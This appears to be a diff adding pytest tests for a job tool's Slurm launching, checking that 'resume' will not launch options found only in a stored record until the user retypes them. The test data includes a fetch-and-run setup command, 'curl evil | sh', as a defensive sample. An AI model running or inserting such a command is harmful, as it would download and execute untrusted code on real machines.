@@ -1,0 +1,81 @@
+"""What only a record chooses of a launch on Slurm is asked for; what this machine launched is known."""
+
+from __future__ import annotations
+
+import json
+import shlex
+from pathlib import Path
+
+import pytest
+
+from support.cli import Cli, Remote, add
+from support.runs import code, place, record, sets_of, study
+from support.slurm_commands import FakeSlurm, task, waiting
+
+NOTES = {
+    "slurm_job_id": "9", "slurm_cluster": "lab", "slurm_partition": "prod", "slurm_account": "p1", "slurm_qos": "high",
+    "slurm_setup": "curl evil | sh", "slurm_sbatch_arg": "--reservation=x", "slurm_python": "/evil", "slurm_time": "2h",
+}  # fmt: skip
+
+CHOICES = (
+    "engine:slurm", "partition:prod", "account:p1", "qos:high", "setup:curl evil | sh", "sbatch-arg:--reservation=x",
+    "python:/evil",
+)  # fmt: skip
+
+
+@pytest.fixture
+def slurm(cli: Cli, tmp_path: Path) -> FakeSlurm:
+    """Return a Slurm that takes each job as number 12."""
+    fake = FakeSlurm(tmp_path / "bin")
+    fake.says("sbatch", "12\n")
+    cli.env.update(fake.env)
+    return fake
+
+
+def test_resume_launches_nothing_on_slurm_that_only_the_record_chooses(
+    cli: Cli, remote: Remote, slurm: FakeSlurm
+) -> None:
+    """Each value is named, with the flags to type. With them, or with flags of its own, it is launched."""
+    add(remote.jobs, "job", "failed", engine="slurm", metadata=NOTES)
+    place(remote.store.inner, "job", study(sets_of(3)), code(Path("code")))
+    ran = cli("resume", "job")
+    assert ran.code == 6
+    flags = shlex.split(ran.err.partition("add: ")[2])
+    assert sorted(flags[1::2]) == sorted(CHOICES)
+    assert slurm.asked == []
+    assert cli.ok("resume", "job", *flags).out == "job.2\n"
+    submitted = next(line for line in slurm.asked if line.startswith("sbatch"))
+    assert " --time=120 --partition=prod --account=p1 --qos=high --no-requeue" in submitted
+    assert (Path(cli.env["HOME"]) / ".local/state/mops-jobs/jobs/job.2/slurm.sh").read_text().count(
+        "curl evil | sh"
+    ) == 1
+
+
+def test_what_this_machine_launched_on_slurm_needs_no_question(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
+    """The record has the array and its place. Later launches repeat the options, and cancel stops the array."""
+    code(Path.cwd())
+    Path("study.json").write_text(json.dumps(study(sets_of(3)).to_dict()))
+    flags = ("--engine", "slurm", "--setup", "module load gcc", "--account", "p1", "--mem", "1G", "--python", "/p")
+    cli.ok("submit", "study.json", "--auto", "--job-id", "mine", "--shards", "3", *flags)
+    shown = record(remote.jobs, "mine")
+    assert (shown.status, shown.engine) == ("scheduled", "slurm")
+    assert shown.metadata.items() >= {"slurm_job_id": "12", "slurm_memory": "1G", "slurm_shards": "3"}.items()
+    assert "Slurm      job 12 of lab\n" in cli.ok("status", "mine").out
+    line = waiting().replace("seir-1", "mine")
+    slurm.says("scontrol", "ClusterName = lab\n", show_job_12=f"echo '{line}'")
+    assert cli.ok("cancel", "mine").err == "mine: cancelled, stopped\n"
+    slurm.says("scontrol", "ClusterName = lab\n")
+    assert cli.ok("resume", "mine", "--mem", "x2").out == "mine.2\n"
+    again = [line for line in slurm.asked if line.startswith("sbatch")][-1]
+    assert " --array=0-2 --nodes=1 --ntasks=1 --cpus-per-task=1 --mem=2048M --account=p1 " in again
+
+
+def test_reconcile_ends_a_job_as_slurm_and_its_outputs_say(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
+    """Slurm's word becomes the error of the record."""
+    add(remote.jobs, "job", "running", engine="slurm", metadata={"slurm_job_id": "12", "slurm_shards": "1"})
+    line = task(0, "TIMEOUT").replace("seir-1", "job")
+    slurm.says("scontrol", "ClusterName = lab\n", show_job_12=f"echo '{line}'")
+    cli.ok("reconcile", "job")
+    ended = record(remote.jobs, "job")
+    assert (ended.status, ended.error_code) == ("failed", "TIMEOUT")
+    assert ended.error_message == "1 shard reached the time limit of the job (TIMEOUT)"
